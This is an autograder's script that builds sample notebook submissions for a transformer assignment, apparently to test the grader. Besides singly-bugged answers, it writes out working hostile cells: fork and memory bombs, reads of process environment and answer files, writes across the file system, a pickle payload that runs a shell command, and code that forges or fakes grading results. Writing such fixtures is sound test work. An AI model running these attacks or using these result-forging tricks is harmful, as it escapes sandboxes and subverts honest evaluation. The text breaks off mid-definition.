"""Build the STAT8021 A3 sample submissions (Parts 1-3), and their README, from the pack.

Why generated: each sample is the solution or the template with one defect, so it tests one
thing. Building them by exact string replacement from `reference/stat8021-a3/` keeps them in
step with the pack; every replacement must match exactly once, so a change to the pack's
notebooks that would silently leave a sample correct fails here instead.

    python submissions/stat8021-a3/make_samples.py

The hostile samples are meant to be run only inside the grader's sandbox: outside it they
fork without limit, fill memory, and write files across the file system.
"""

from __future__ import annotations

import copy
import sys
import textwrap
from dataclasses import dataclass
from pathlib import Path

import nbformat
from nbformat import NotebookNode

HERE = Path(__file__).resolve().parent
PACK = HERE.parents[1] / "reference" / "stat8021-a3"
NOTEBOOK = "Transformer_practice.ipynb"
PART1 = {"q1a": 6, "q1b": 6, "q1c": 12, "q1d": 6}  # 30 in all
PART2 = {"q2a": 12, "q2b": 12, "q2c": 8, "q2d": 8}  # 40 in all
PART3 = {"q3a2": 4, "q3c": 4, "q3d": 4, "q3e1": 4, "q3e2": 4, "q3e3": 4}  # answer checks
MANUAL = {"q3a1": 2, "q3b": 4}  # Part 3's explanations: graded by a TA, never scored here
POINTS = {**PART1, **PART2, **PART3}
ALL = tuple(POINTS)
TOTAL = sum(POINTS.values()) + sum(MANUAL.values())  # 100, the handout's total


def src(text: str) -> str:
    return textwrap.dedent(text).strip("\n")


# ----------------------------------------------------------------------------------------
# Edits: each changes one notebook in place and fails loudly when it does not apply


@dataclass(frozen=True)
class Replace:
    """Replace `old` by `new` in the code cell tagged `tag`; `old` must occur exactly once."""

    tag: str
    old: str
    new: str

    def apply(self, nb: NotebookNode) -> None:
        cell = tagged(nb, self.tag)
        count = cell.source.count(self.old)
        assert count == 1, f"cell {self.tag!r}: expected 1 match, found {count}: {self.old!r}"
        cell.source = cell.source.replace(self.old, self.new)


@dataclass(frozen=True)
class InsertAfter:
    """Insert a new code cell (id `cell_id`) right after the cell tagged `tag`."""

    tag: str
    cell_id: str
    source: str

    def apply(self, nb: NotebookNode) -> None:
        index = nb.cells.index(tagged(nb, self.tag))
        nb.cells.insert(index + 1, nbformat.v4.new_code_cell(self.source, id=self.cell_id))


@dataclass(frozen=True)
class UseTemplate:
    """Put the template's source back into the cells tagged `tags` (left undone)."""

    tags: tuple[str, ...]

    def apply(self, nb: NotebookNode) -> None:
        template = nbformat.read(PACK / "template" / NOTEBOOK, as_version=4)
        for tag in self.tags:
            tagged(nb, tag).source = tagged(template, tag).source


@dataclass(frozen=True)
class MoveUnderCellMagic:
    """Move the code of the cell tagged `tag` into a new cell right after it (id `cell_id`)
    that starts with the cell magic `magic`, and leave `placeholder` in the tagged cell.
    IPython hands a cell magic's body to the magic as a string: a rule that parses only
    the cells as written never reads that code, although the kernel runs it."""

    tag: str
    cell_id: str
    magic: str
    placeholder: str

    def apply(self, nb: NotebookNode) -> None:
        cell = tagged(nb, self.tag)
        body = cell.source
        cell.source = self.placeholder
        index = nb.cells.index(cell)
        nb.cells.insert(index + 1, nbformat.v4.new_code_cell(f"{self.magic}\n{body}",
                                                             id=self.cell_id))


PART2_UNDONE = UseTemplate(tuple(PART2))
"""Part 1 samples leave Part 2 as the template has it: each sample tests one thing, and
grading them does not fine-tune a model 18 times."""
PART3_UNDONE = UseTemplate((*PART3, *MANUAL))
"""...and Part 3's answer cells blank, as the template has them."""


def tagged(nb: NotebookNode, tag: str) -> NotebookNode:
    """The one cell carrying `tag`."""
    cells = [cell for cell in nb.cells if tag in cell.metadata.get("tags", [])]
    assert len(cells) == 1, f"expected one cell tagged {tag!r}, found {len(cells)}"
    return cells[0]


def attack(source: str) -> InsertAfter:
    """A hostile cell, run right after the imports, before any question cell."""
    return InsertAfter("imports", "attack", src(source))


# ----------------------------------------------------------------------------------------
# The defects

TRANSPOSED_HEADS = Replace(
    "q1a",
    "return t.view(B, S, num_heads, d_k).transpose(1, 2)",
    "return t.view(B, num_heads, S, d_k)  # same shape, features scrambled across heads",
)

MASK_AFTER_SOFTMAX = Replace(
    "q1b",
    "    if mask is not None:\n"
    '        scores = scores.masked_fill(mask, float("-inf"))  # blocked before the softmax\n'
    "    weights = torch.softmax(scores, dim=-1)  # (B, h, S, S)\n",
    "    weights = torch.softmax(scores, dim=-1)  # (B, h, S, S)\n"
    "    if mask is not None:\n"
    "        weights = weights.masked_fill(mask, 0.0)  # rows no longer sum to one\n",
)

MISSING_SCALE = Replace(
    "q1c",
    "scores = q @ k.transpose(-2, -1) / math.sqrt(d_k)  # (B, h, S, S)",
    "scores = q @ k.transpose(-2, -1)  # (B, h, S, S), forgot / sqrt(d_k)",
)

CALLS_STANDALONE = Replace(
    "q1c",
    "        # project, then split into heads: (B, S, D) -> (B, h, S, d_k)\n"
    "        q = self.W_q(x).view(B, S, h, d_k).transpose(1, 2)\n"
    "        k = self.W_k(x).view(B, S, h, d_k).transpose(1, 2)\n"
    "        v = self.W_v(x).view(B, S, h, d_k).transpose(1, 2)\n"
    "        scores = q @ k.transpose(-2, -1) / math.sqrt(d_k)  # (B, h, S, S)\n"
    "        if mask is not None:\n"
    '            scores = scores.masked_fill(mask, float("-inf"))\n'
    "        weights = torch.softmax(scores, dim=-1)  # (B, h, S, S)\n"
    "        out = (weights @ v).transpose(1, 2).contiguous().view(B, S, D)  # merge heads\n"
    "        return self.W_o(out)",
    "        # reuse Q1(a) and Q1(b); nn.Linear computes x @ W.T + b: pass W.T, add b per head\n"
    "        q, k, v = get_multihead_qkv(\n"
    "            x, self.W_q.weight.T, self.W_k.weight.T, self.W_v.weight.T, h\n"
    "        )\n"
    "        q = q + self.W_q.bias.view(1, h, 1, d_k)\n"
    "        k = k + self.W_k.bias.view(1, h, 1, d_k)\n"
    "        v = v + self.W_v.bias.view(1, h, 1, d_k)\n"
    "        out, _ = calculate_multihead_attention(q, k, v, mask=mask)  # (B, S, D)\n"
    "        return self.W_o(out)",
)

SIN_COS_SWAPPED = Replace(
    "q1d",
    "        pe[:, 0::2] = torch.sin(position * div_term)\n"
    "        pe[:, 1::2] = torch.cos(position * div_term)\n",
    "        pe[:, 0::2] = torch.cos(position * div_term)\n"
    "        pe[:, 1::2] = torch.sin(position * div_term)\n",
)

FAKE_ACCURACY = Replace(
    "q2b",
    "seconds = fine_tune(model, train_loader, test_loader, epochs=1 if QUICK else 2, lr=5e-4)",
    "seconds = 0.0  # no training at all; the printed accuracies are made up\n"
    "for epoch in range(2):\n"
    '    print(f"Epoch {epoch + 1}: train accuracy 0.9900, test accuracy 0.9900")',
)
TRAINS_ON_TEST = Replace(
    "q2b",
    "train_loader = DataLoader(train_dataset, batch_size=32, shuffle=True)\n"
    "test_loader = DataLoader(test_dataset, batch_size=64)\n",
    "train_loader = DataLoader(test_dataset, batch_size=32, shuffle=True)  # the test split!\n"
    "test_loader = DataLoader(test_dataset, batch_size=64)\n",
)
MORE_EPOCHS = Replace(
    "q2b",
    "seconds = fine_tune(model, train_loader, test_loader, epochs=1 if QUICK else 2, lr=5e-4)",
    "seconds = fine_tune(model, train_loader, test_loader, epochs=1 if QUICK else 8, lr=5e-4)",
)
SECOND_MODEL_UNDONE = UseTemplate(("q2d",))
PE_CELL_CRASHES = Replace(
    "q1d", "class PositionalEncoding(nn.Module):", "class PositionalEncoding(nn.Modle):"
)

FAKE_PRINTS = Replace(
    "demo-q1c",
    "print(f\"attention output error: {demo_attention_error('self'):.6e}\")\n"
    "print(f\"masked attention output error: {demo_attention_error('masked'):.6e}\")",
    'print("attention output error: 0.000000e+00")\n'
    'print("masked attention output error: 0.000000e+00")',
)

# ----------------------------------------------------------------------------------------
# The attacks (each one cell)

INFINITE_LOOP = """
    while True:
        pass
    """

MEMORY_BOMB = """
    import resource

    # One allocation 1 GiB larger than all the address space this process may have: it
    # fails at once, however loaded the machine, instead of racing the cell timeout.
    # Without a limit, 4 EiB: more than any machine can map.
    limit, _hard = resource.getrlimit(resource.RLIMIT_AS)
    size = limit + (1 << 30) if limit != resource.RLIM_INFINITY else 1 << 62
    hoard = bytearray(size)
    """

FORK_BOMB = """
    import os

    while True:
        os.fork()  # parent and every child go round again
    """

NETWORK = """
    import socket
    import urllib.request

    try:
        with urllib.request.urlopen("http://example.com", timeout=5) as response:
            print(f"http: status {response.status}, {len(response.read())} bytes")
    except Exception as error:
        print(f"http: failed: {type(error).__name__}: {error}")

    try:
        with socket.create_connection(("1.1.1.1", 53), timeout=5) as sock:
            print(f"socket: connected to {sock.getpeername()}")
    except Exception as error:
        print(f"socket: failed: {type(error).__name__}: {error}")
    """

READ_SECRETS = """
    import glob
    import os

    unreadable = 0
    for path in sorted(set(glob.glob("/proc/*/environ")) | {"/proc/1/environ"}):
        try:
            with open(path, "rb") as f:
                data = f.read()
        except OSError:
            unreadable += 1
            continue
        print(f"read {path}: {len(data)} bytes: {data[:300]!r}")
    print(f"{unreadable} environ files unreadable")

    WANTED = ("reference", "private", "submissions")
    found, seen = [], 0
    for root, dirs, files in os.walk("/"):
        if root == "/":
            dirs[:] = [d for d in dirs if d not in ("proc", "sys")]
        for name in dirs + files:
            seen += 1
            path = os.path.join(root, name)
            if any(word in path for word in WANTED):
                found.append(path)
        if seen >= 20000:
            break
    print(f"walked {seen} entries; {len(found)} paths look interesting")
    for path in found[:200]:
        print("found", path)
    for path in found:
        if os.path.basename(path) == "reference.py":
            try:
                with open(path) as f:
                    print(f"--- {path}\\n{f.read()[:4000]}")
            except OSError as error:
                print(f"cannot read {path}: {type(error).__name__}")
    """

WRITE_OUTSIDE = """
    import os

    parent = os.path.dirname(os.path.abspath(os.getcwd()))
    targets = [
        "/etc/pwned",
        "/tmp/../pwned",
        os.path.join(parent, "pwned"),
        "/work/pwned",
        os.path.join(os.path.expanduser("~"), "pwned"),
    ]
    try:
        targets += [
            os.path.join("/", d, "pwned")
            for d in sorted(os.listdir("/"))
            if os.path.isdir(os.path.join("/", d))
        ]
    except OSError as error:
        print(f"cannot list /: {type(error).__name__}")

    for target in targets:
        try:
            with open(target, "w") as f:
                f.write("written by a hostile sample notebook\\n")
        except OSError as error:
            print(f"blocked {target}: {type(error).__name__}")
        else:
            print(f"WROTE {target}")
    """

OS_EXIT = """
    import os

    os._exit(0)
    """

OUTPUT_FLOOD = """
    # One print of 16 MiB, more than any output budget (2 MiB by default): the very first
    # message is over the limit, so it trips before any cell timeout could.
    print("x" * (16 << 20))
    while True:
        print("x" * 100000)
    """

MONKEYPATCH = """
    import builtins

    # Make every comparison inside this kernel say "equal".
    torch.allclose = lambda *args, **kwargs: True
    torch.isclose = lambda a, *args, **kwargs: torch.ones_like(torch.as_tensor(a), dtype=torch.bool)
    builtins.abs = lambda x: 0
    torch.Tensor.__sub__ = lambda a, b: torch.zeros_like(a)
    """

IPYTHON_HOOK = """
    import glob
    import itertools
    import os

    ip = get_ipython()
    recorded_lines = []  # the source of every later cell, the grader's own cells included


    def record(lines):
        recorded_lines.extend(lines)
        return lines


    def after_each_cell(result):
        print("error: 0.0")
        print("attention output error: 0.000000e+00")
        print("masked attention output error: 0.000000e+00")
        print("pe_output error: 0.000000e+00")
        for root in ("/run", "/tmp", os.getcwd()):
            pattern = os.path.join(root, "**", "*grader*")
            for path in itertools.islice(glob.iglob(pattern, recursive=True), 200):
                if not os.path.isdir(path):
                    continue
                try:
                    with open(os.path.join(path, "hook-was-here.txt"), "w") as f:
                        f.write(f"{len(recorded_lines)} lines recorded\\n")
                    print(f"wrote into {path}")
                except OSError:
                    pass


    ip.input_transformers_post.append(record)
    ip.events.register("post_run_cell", after_each_cell)
    """

PICKLE_PAYLOAD = """
    import os
    import pickle
    import re


    class Payload:
        # Whoever unpickles this runs the command.
        def __reduce__(self):
            return (os.system, ("touch /tmp/grader-pwned",))


    BLOB = pickle.dumps(Payload())
    ABSOLUTE_PATH = re.compile(r"/[\\w.\\-/]+")
    BAIT = ("payload.pkl", "result.json", "results.json", "outputs.safetensors",
            "probe.safetensors")


    def drop_payloads(info):
        folders = {os.getcwd()}
        for path in ABSOLUTE_PATH.findall(info.raw_cell or ""):
            folders.add(path if os.path.isdir(path) else os.path.dirname(path))
        for folder in sorted(folders):
            if not (folder and os.path.isdir(folder) and os.access(folder, os.W_OK)):
                continue
            for name in BAIT:
                try:
                    with open(os.path.join(folder, name), "wb") as f:
                        f.write(BLOB)
                except OSError:
                    pass


    get_ipython().events.register("pre_run_cell", drop_payloads)
    """

FORGED_PAYLOAD = """
    import os

    # Rewrite what the grader reads back: the Q1(c) probe's JSON nested 200,000 deep, its
    # tensors file a JSON string where tensors belong, the "after" snapshot 120 MB.
    real_replace = os.replace


    def forge(src, dst):
        name = os.path.basename(str(dst))
        if name.startswith("q1c-") and name.endswith(".json"):
            with open(src, "w") as f:
                f.write("[" * 200_000 + "]" * 200_000)
        elif name.startswith("q1c-") and name.endswith(".safetensors"):
            with open(src, "w") as f:
                f.write('{"output": "tensor([0.0, 0.0])"}')
        elif name == "after.json":
            with open(src, "w") as f:
                f.write("[" + "0," * 60_000_000 + "0]")
        return real_replace(src, dst)


    os.replace = forge
    """

PROBE_KILLS_KERNEL = """
    import os


    # Every target, when the grader's probe calls it, kills the kernel: without a limit on
    # restarts each probe would replay the whole notebook.
    def get_multihead_qkv(*args, **kwargs):
        os._exit(1)


    calculate_multihead_attention = get_multihead_qkv


    class MultiHeadAttention(nn.Module):
        def __init__(self, *args, **kwargs):
            os._exit(1)


    class PositionalEncoding(MultiHeadAttention):
        pass
    """

LEAK_HIDDEN = """
    import sys


    def leaky_forward(self, x):
        # Called by the grader's probe on a hidden case: walk up the stack to the grader's
        # frames and put all they hold, and the hidden input itself, into the error message
        # (which a naive grader would print in the student's report).
        found = []
        frame = sys._getframe(1)
        while frame is not None:
            for name, value in list(frame.f_locals.items()):
                found.append(f"{name}={value!r}"[:2000])
            frame = frame.f_back
        raise ValueError(f"input {x!r}; frames: {' | '.join(found)}")


    PositionalEncoding.forward = leaky_forward
    """


def correct_attention(name: str) -> str:
    """The attacks' own Q1(c) reference, as cell source: the multi-head attention a probe
    case's inputs call for, computed from the weights beside them (one copy for every
    attack that forges Q1(c)'s outputs)."""
    return "    def " + name + """(case):
        x, h = case["x"], case["num_heads"]
        B, S, D = x.shape
        d = D // h

        def project(name):
            return (x @ case[f"{name}.weight"].T + case[f"{name}.bias"]).view(B, S, h, d)

        q, k, v = (project(n).transpose(1, 2) for n in ("W_q", "W_k", "W_v"))
        scores = q @ k.transpose(-2, -1) / d ** 0.5
        if case.get("masked"):
            scores = scores.masked_fill(case["mask"], float("-inf"))
        out = (scores.softmax(-1) @ v).transpose(1, 2).reshape(B, S, D)
        return out @ case["W_o.weight"].T + case["W_o.bias"]
"""


BACKGROUND_THREAD = """
    import json
    import os
    import sys
    import threading
    import time

    # 1. json.dump: every later JSON written with it into a folder repeats the first one
    #    written there (the "after" snapshot would be a copy of the "before" one).
    first_written = {}
    real_dumps = json.dumps


    def copying_dump(obj, fp, *args, **kwargs):
        folder = os.path.dirname(str(getattr(fp, "name", "")))
        fp.write(first_written.setdefault(folder, real_dumps(obj, *args, **kwargs)))


    json.dump = copying_dump


    # 2. A thread that outlives the cells, swallows the SystemExit a grader may raise in it,
    #    waits for the grader's probe of Q1(c) and replaces its payload with correct outputs,
    #    computed from the hidden inputs it reads beside it.
    def find_io():
        for frame in list(sys._current_frames().values()):
            while frame is not None:
                io = frame.f_locals.get("io")
                if isinstance(io, str) and io.startswith("/run/g-"):
                    return io
                frame = frame.f_back
        return None


""" + correct_attention("correct") + """

    def forge(io):
        from safetensors import safe_open
        from safetensors.torch import save_file

        check = "q1c-MultiHeadAttention"
        with safe_open(f"{io}/in/{check}.safetensors", framework="pt") as fh:
            params = json.loads(fh.metadata()["params"])
            raw = {key: fh.get_tensor(key) for key in fh.keys()}  # noqa: SIM118 - not a dict
        cases, tensors = {}, {}
        for name, case in params.items():
            case = dict(case)
            case.update({k.split("/in/")[1]: v for k, v in raw.items()
                         if k.startswith(name + "/in/")})
            out = correct(case).contiguous()
            tensors[f"{name}/output"] = out
            cases[name] = {"status": "ok", "seconds": 0.01, "ops": ["aten::bmm"], "outputs": {
                "output": {"shape": list(out.shape), "dtype": "float32", "device": "cpu",
                           "requires_grad": False}}}
        while not os.path.exists(f"{io}/out/{check}.json"):
            time.sleep(0.001)
        time.sleep(0.01)  # after the grader's harness has written
        save_file(tensors, f"{io}/out/{check}.safetensors")
        with open(f"{io}/out/{check}.json", "w") as f:
            f.write(real_dumps({"check": check, "cases": cases}))


    def meddle():
        try:
            while True:
                io = find_io()
                if io and os.path.exists(f"{io}/in/q1c-MultiHeadAttention.safetensors"):
                    forge(io)
                time.sleep(0.001)
        except BaseException:  # SystemExit from the grader: swallowed, and round again
            meddle()


    threading.Thread(target=meddle, name="meddler", daemon=True).start()
    """

# Issue 25's Part 1 attacks: each earned Q1(c)'s 12 points, unflagged, while the static rule
# read only the cells as written and the harness trusted a function's file name.

NAMESPACE_LOOKUP = Replace(
    "q1c",
    "        # project, then split into heads: (B, S, D) -> (B, h, S, d_k)\n"
    "        q = self.W_q(x).view(B, S, h, d_k).transpose(1, 2)\n"
    "        k = self.W_k(x).view(B, S, h, d_k).transpose(1, 2)\n"
    "        v = self.W_v(x).view(B, S, h, d_k).transpose(1, 2)\n"
    "        scores = q @ k.transpose(-2, -1) / math.sqrt(d_k)  # (B, h, S, S)\n"
    "        if mask is not None:\n"
    '            scores = scores.masked_fill(mask, float("-inf"))\n'
    "        weights = torch.softmax(scores, dim=-1)  # (B, h, S, S)\n"
    "        out = (weights @ v).transpose(1, 2).contiguous().view(B, S, D)  # merge heads\n"
    "        return self.W_o(out)",
    "        # the Q1(a)/(b) functions, fetched by strings a reader of names never sees\n"
    "        import sys\n"
    "\n"
    '        qkv = get_ipython().user_ns["get_multihead" + "_qkv"]\n'
    '        attend = sys.modules["__main__"].__dict__["calculate_multihead" + "_attention"]\n'
    "        q, k, v = qkv(x, self.W_q.weight.T, self.W_k.weight.T, self.W_v.weight.T, h)\n"
    "        q = q + self.W_q.bias.view(1, h, 1, d_k)\n"
    "        k = k + self.W_k.bias.view(1, h, 1, d_k)\n"
    "        v = v + self.W_v.bias.view(1, h, 1, d_k)\n"
    "        out, _ = attend(q, k, v, mask=mask)  # (B, S, D)\n"
    "        return self.W_o(out)",
)

ATEN_UNDER_DISABLED_FUNCTIONS = Replace(
    "q1c",
    "        scores = q @ k.transpose(-2, -1) / math.sqrt(d_k)  # (B, h, S, S)\n"
    "        if mask is not None:\n"
    '            scores = scores.masked_fill(mask, float("-inf"))\n'
    "        weights = torch.softmax(scores, dim=-1)  # (B, h, S, S)\n"
    "        out = (weights @ v).transpose(1, 2).contiguous().view(B, S, D)  # merge heads\n",
    "        bias = None if mask is None else torch.zeros(S, S).masked_fill(mask, float(\"-inf\"))\n"
    "        # the fused attention's composite form, with torch's function modes off for the\n"
    "        # call: a dispatch mode sees only the bmm and softmax it decomposes into\n"
    "        with torch._C.DisableTorchFunction():\n"
    "            out = _aten._scaled_dot_product_attention_math(q, k, v, attn_mask=bias)[0]\n"
    "        out = out.transpose(1, 2).contiguous().view(B, S, D)  # merge heads\n",
)
ATEN_BOUND_AT_TOP = Replace(
    "q1c", "class MultiHeadAttention(nn.Module):\n",
    "_aten = torch.ops.aten\n\n\nclass MultiHeadAttention(nn.Module):\n")

UNDER_CELL_MAGIC = MoveUnderCellMagic("q1c", "attack", "%%time", src('''
    class MultiHeadAttention(nn.Module):
        """Placeholder: the layer is finished in the next cell."""

        def __init__(self, d_model, num_heads):
            super().__init__()

        def forward(self, x, mask=None):
            return x
    '''))

FORGED_SAFETENSORS = '''
    import json

    import safetensors.torch
    from safetensors import safe_open

    # safetensors.torch.save_file replaced by a function compiled under the library's own
    # file name (a check trusting `co_filename` takes it for the library's): it rewrites
    # the Q1(c) outputs with correct ones, computed from the inputs beside them.
    _real_save = safetensors.torch.save_file


''' + correct_attention("_correct") + '''

    _FORGED = """
    def save_file(tensors, filename, metadata=None):
        if str(filename).endswith("/q1c-MultiHeadAttention.safetensors"):
            with safe_open(str(filename).replace("/out/", "/in/"), framework="pt") as fh:
                params = json.loads(fh.metadata()["params"])
                raw = {key: fh.get_tensor(key) for key in fh.keys()}
            for name, case in params.items():
                case = dict(case)
                case.update({k.split("/in/")[1]: v for k, v in raw.items()
                             if k.startswith(name + "/in/")})
                if name + "/output" in tensors:
                    tensors[name + "/output"] = _correct(case).contiguous()
        return _real_save(tensors, filename, metadata)
    """
    _space = {"json": json, "safe_open": safe_open, "_correct": _correct,
              "_real_save": _real_save}
    exec(compile(_FORGED, safetensors.torch.__file__, "exec"), _space)
    safetensors.torch.save_file = _space["save_file"]
    '''

SHARED_MEMORY = """
    import subprocess
    import sys

    # Four children of 2 GiB each: each under the per-process address-space limit, all
    # four together far over what the whole sandbox may use.
    code = "b = bytearray(2 << 30); print('holding 2 GiB', flush=True); input()"
    children = [subprocess.Popen([sys.executable, "-c", code], stdin=subprocess.PIPE,
                                 stdout=subprocess.PIPE, text=True) for _ in range(4)]
    # each one holds its 2 GiB, or was killed for the memory the others hold
    print([c.stdout.readline().strip() or f"killed ({c.wait()})" for c in children])
    for child in children:
        child.kill()
    """

FILL_DISK = """
    # 2 GiB written to the working folder, in files under the file-size limit.
    chunk = b"x" * (64 << 20)
    for i in range(32):
        with open(f"blob{i}", "wb") as f:
            f.write(chunk)
            f.write(chunk)
    print("wrote 2 GiB")
    """


# Part 3: answers that follow a known convention, each worth the rubric's partial credit.
GIB_LABELLED_GB = Replace("q3c", "Answer: 25.77 GB", "Answer: 24 GB")
FFN_WITHOUT_BIASES = Replace("q3d", "Answer: 14.50 billion", "Answer: 14,495,514,624")
LOSS_IN_LOG10 = Replace("q3a2", "Loss: 0.2876", "Loss: 0.1249")
ADAM_IN_MIB = Replace("q3e2", "Answer: 75.50 MB", "Answer: 72 MiB")


# ----------------------------------------------------------------------------------------
# The samples


@dataclass(frozen=True)
class Sample:
    """One sample: a base notebook, the edits made to it, and what a correct grader takes off.

    `base` is "solution", "template" or the name of an earlier sample; `loses` names the
    questions that should get no points.
    """

    name: str
    base: str
    what: str
    edits: tuple[Replace | InsertAfter | UseTemplate | MoveUnderCellMagic, ...] = ()
    loses: tuple[str, ...] = ()
    keeps: tuple[tuple[str, float], ...] = ()
    """Points kept of a question a sample only half gets, by the rubric's rule."""
    held: tuple[str, ...] = ()
    """Questions held for a TA (no score yet): the notebook uses a primitive an honest
    notebook never needs (grader/checks/evasion.py), so nothing its kernel returned is
    vouched for. Before the TA they count nothing, like the manual questions."""

    @property
    def score(self) -> float:
        kept = dict(self.keeps)
        lost = set(self.loses) | set(self.held)
        return sum(POINTS.values()) - sum(POINTS[q] - kept.get(q, 0) for q in lost)


SAMPLES = (
    Sample("solution", "solution", "The solution notebook as it is."),
    Sample("wrong-q1a-transposed-heads", "part1",
           "Q1(a) splits heads with `view(B, h, S, d_k)` instead of view-then-transpose: "
           "right shape, features scrambled across heads.",
           (TRANSPOSED_HEADS,), ("q1a", *PART2, *PART3)),
    Sample("wrong-q1b-mask-after-softmax", "part1",
           "Q1(b) zeroes blocked weights after the softmax, without renormalising; "
           "unmasked cases still match.",
           (MASK_AFTER_SOFTMAX,), ("q1b", *PART2, *PART3)),
    Sample("wrong-q1c-missing-scale", "part1",
           "Q1(c) forgets to divide the scores by sqrt(d_k).",
           (MISSING_SCALE,), ("q1c", *PART2, *PART3)),
    Sample("wrong-q1c-calls-standalone", "part1",
           "Q1(c) calls `get_multihead_qkv` and `calculate_multihead_attention` with the "
           "layers' weights: numerically right, but breaks the handout's rule (a static "
           "check must catch it; the probe outputs match).",
           (CALLS_STANDALONE,), ("q1c", *PART2, *PART3)),
    Sample("wrong-q1d-sin-cos-swapped", "part1",
           "Q1(d) puts cos in the even columns and sin in the odd ones.",
           (SIN_COS_SWAPPED,), ("q1d", *PART2, *PART3)),
    Sample("crash-pe-cell", "part1",
           "The Q1(d) cell raises when run (`nn.Modle`), so `PositionalEncoding` is never "
           "defined; the other questions are right.",
           (PE_CELL_CRASHES,), ("q1d", *PART2, *PART3)),
    Sample("hostile-infinite-loop", "template", "Template plus a cell that never ends.",
           (attack(INFINITE_LOOP),), ALL),
    Sample("hostile-memory-bomb", "template",
           "Template plus a cell that asks for one bytearray 1 GiB larger than the kernel's "
           "whole address-space limit (RLIMIT_AS).",
           (attack(MEMORY_BOMB),), ALL),
    Sample("hostile-fork-bomb", "template",
           "Template plus `os.fork()` in an endless loop, in every child too.",
           (attack(FORK_BOMB),), ALL),
    Sample("hostile-network", "template",
           "Template plus an HTTP request to example.com and a TCP connect to 1.1.1.1:53, "
           "printing what happened.",
           (attack(NETWORK),), ALL),
    Sample("hostile-read-secrets", "template",
           "Template plus reads of `/proc/*/environ` and a bounded walk of `/` for paths "
           "naming reference, private or submissions, printing any `reference.py`.",
           (attack(READ_SECRETS),), ALL),
    Sample("hostile-write-outside", "template",
           "Template plus writes to /etc, /, the parent of the working folder, /work, $HOME "
           "and every top-level folder, printing what succeeded.",
           (attack(WRITE_OUTSIDE),), ALL),
    Sample("hostile-os-exit", "template", "Template plus `os._exit(0)`: the kernel dies.",
           (attack(OS_EXIT),), ALL),
    Sample("hostile-output-flood", "template",
           "Template plus one 16 MiB print, then an endless loop printing 100 kB lines.",
           (attack(OUTPUT_FLOOD),), ALL),
    Sample("hostile-monkeypatch", "wrong-q1c-missing-scale",
           "The missing-scale sample plus a cell patching `torch.allclose`, `torch.isclose`, "
           "`abs` and `Tensor.__sub__` so every in-kernel comparison says equal (its own "
           "demo prints zero error). Replacing a library's attribute is a primitive no honest "
           "notebook needs: flagged with its lines, the Part 1 questions held for a TA.",
           (attack(MONKEYPATCH),), ("q1c", *PART2, *PART3), held=tuple(PART1)),
    Sample("hostile-fake-prints", "wrong-q1c-missing-scale",
           "The missing-scale sample with the Q1(c) demo printing hard-coded zero errors.",
           (FAKE_PRINTS,), ("q1c", *PART2, *PART3)),
    Sample("hostile-ipython-hook", "template",
           "Template plus a post-run hook printing fake `error: 0.0` lines after every cell "
           "and writing into any `*grader*` folder under /run, /tmp and the working folder, "
           "and an input transformer recording every later cell's source.",
           (attack(IPYTHON_HOOK),), ALL),
    Sample("hostile-pickle-payload", "template",
           "Template plus a pre-run hook that, before each later cell, drops a pickle whose "
           "loading runs `touch /tmp/grader-pwned` (as `payload.pkl`, `result.json`, "
           "`*.safetensors`) into every writable folder named in the cell, and the working one.",
           (attack(PICKLE_PAYLOAD),), ALL),
    Sample("hostile-forged-payload", "wrong-q1c-missing-scale",
           "The missing-scale sample plus a cell replacing `os.replace` so that what the "
           "grader reads back is hostile: the Q1(c) probe's JSON nested 200,000 deep, its "
           "tensors file a string where tensors belong, the \"after\" snapshot 120 MB. "
           "Refused or never used; the grader does not fail and Q1(c) stays lost. The replaced "
           "`os.replace` is flagged and the Part 1 questions held for a TA.",
           (attack(FORGED_PAYLOAD),), ("q1c", *PART2, *PART3), held=tuple(PART1)),
    Sample("hostile-probe-kills-kernel", "template",
           "Template plus a cell after Part 1 redefining the four Part 1 targets so that "
           "calling any of them (only the grader's probes do) kills the kernel with "
           "`os._exit`: at most 3 restarts, each replay counted against the notebook's "
           "budget; the probes after the last restart are not run.",
           (InsertAfter("demo-q1d", "attack", src(PROBE_KILLS_KERNEL)),), ALL),
    Sample("hostile-leak-hidden", "part1",
           "The Part 1 solution plus a cell, after the Q1(d) demo, whose `forward` walks up "
           "the stack from the grader's call and raises an error holding every frame's "
           "locals and the hidden input: the record's message is cut, without tensor values, "
           "numbers or the run's folders; Q1(d) is lost. The frame access (`sys._getframe`, "
           "`f_back`) is flagged and the Part 1 questions held for a TA.",
           (InsertAfter("demo-q1d", "attack", src(LEAK_HIDDEN)),), ("q1d", *PART2, *PART3),
           held=tuple(PART1)),
    Sample("hostile-background-thread", "wrong-q1c-missing-scale",
           "The missing-scale sample plus a cell that makes `json.dump` repeat the first JSON "
           "written in a folder, and starts a thread that swallows SystemExit, waits for the "
           "grader's Q1(c) probe and replaces its payload with correct outputs computed from "
           "the hidden inputs. The thread is still running after the grader stops the "
           "notebook's threads, so no probe result is used: nothing is won, everything is "
           "lost, and the record says why.",
           (attack(BACKGROUND_THREAD),), ALL),
    Sample("hostile-namespace-lookup", "part1",
           "The Part 1 solution whose Q1(c) `forward` fetches the Q1(a)/(b) functions by "
           "string: `get_ipython().user_ns[\"get_multihead\" + \"_qkv\"]` and "
           "`sys.modules[\"__main__\"].__dict__[...]`, right numbers without naming them. "
           "A namespace lookup by string is a primitive no honest notebook needs: flagged "
           "with its line, and every question judged from the kernel held for a TA.",
           (NAMESPACE_LOOKUP,), (*PART2, *PART3), held=tuple(PART1)),
    Sample("hostile-aten-disable-torchfunction", "part1",
           "The Part 1 solution whose Q1(c) binds `_aten = torch.ops.aten` at top level and "
           "calls `_aten._scaled_dot_product_attention_math` inside "
           "`torch._C.DisableTorchFunction()`, so the function mode records nothing of it "
           "and the dispatch mode only its bmm and softmax. Both primitives flagged with "
           "their lines and the Part 1 questions held; the harness's recording says it was "
           "bypassed (not vouched for) instead of passing.",
           (ATEN_UNDER_DISABLED_FUNCTIONS, ATEN_BOUND_AT_TOP), (*PART2, *PART3),
           held=tuple(PART1)),
    Sample("hostile-cell-magic-body", "wrong-q1c-calls-standalone",
           "The standalone-calls sample with a placeholder `MultiHeadAttention` in the tagged "
           "Q1(c) cell and the real class (calling `get_multihead_qkv` and "
           "`calculate_multihead_attention`) in the next cell under `%%time`, whose body "
           "IPython passes to the magic as a string. The rule reads the body as the kernel "
           "runs it: Q1(c) fails the rule as in `wrong-q1c-calls-standalone`, the finding "
           "naming the body's line.",
           (UNDER_CELL_MAGIC,), ("q1c", *PART2, *PART3)),
    Sample("hostile-forged-safetensors", "wrong-q1c-missing-scale",
